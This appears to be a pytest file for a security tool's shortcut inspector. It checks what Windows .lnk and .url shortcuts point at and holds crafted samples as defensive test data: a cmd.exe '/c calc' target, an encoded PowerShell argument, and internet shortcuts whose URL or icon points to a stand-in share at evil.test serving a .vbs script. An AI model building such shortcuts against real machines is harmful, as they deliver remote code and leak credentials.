"""Shortcuts say what they run."""

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatepost.files.documents import dispatch
from gatepost.files.values import File, UnpackBudget


def link(target: str, arguments: str = "") -> bytes:
    flags = 0x80 | 0x08 | (0x20 if arguments else 0)
    head = b"L\0\0\0" + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", flags) + bytes(52)
    strings = [text for text in (target, arguments) if text]
    return head + b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in strings)


def traits(content: bytes) -> dict[str, str]:
    found = dispatch.inspect(File("1", content, "lnk", "0" * 64), UnpackBudget())
    return {trait.name: trait.detail for trait in found.traits}


def test_target_and_arguments() -> None:
    assert traits(link("..\\cmd.exe", "/c  calc")) == {
        "shortcut": "..\\cmd.exe /c calc",
        "shortcut-arguments": "/c calc",
    }


def test_a_target_alone() -> None:
    assert traits(link("report.docx")) == {"shortcut": "report.docx"}


def test_an_encoded_command_is_read() -> None:
    content = link("powershell.exe", "-e ZQBjAGgAbwAgACIAaABlAGwAbABvACAAdABoAGUAcgBlACIA")
    found = dispatch.inspect(File("1", content, "lnk", "0" * 64), UnpackBudget())
    assert b"hello there" in found.members[0].content


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[InternetShortcut]\r\nURL=https://a.test/\r\n", "internet-shortcut"),
        ("[InternetShortcut]\r\nURL=file://evil.test/share/a.vbs\r\n", "shortcut-to-share"),
        ("[InternetShortcut]\r\nURL=\\\\evil.test\\share\\a.vbs\r\n", "shortcut-to-share"),
        ("[InternetShortcut]\r\nIconFile=\\\\evil.test\\share\\a.ico\r\n", "shortcut-to-share"),
    ],
)
def test_internet_shortcuts(text: str, expected: str) -> None:
    found = dispatch.inspect(File("1", text.encode(), "text", "0" * 64), UnpackBudget())
    assert [trait.name for trait in found.traits] == [expected]


@given(st.binary(max_size=300))
def test_no_bytes_raise(content: bytes) -> None:
    assert "shortcut" in traits(b"L\0\0\0\x01\x14\x02\0" + content)
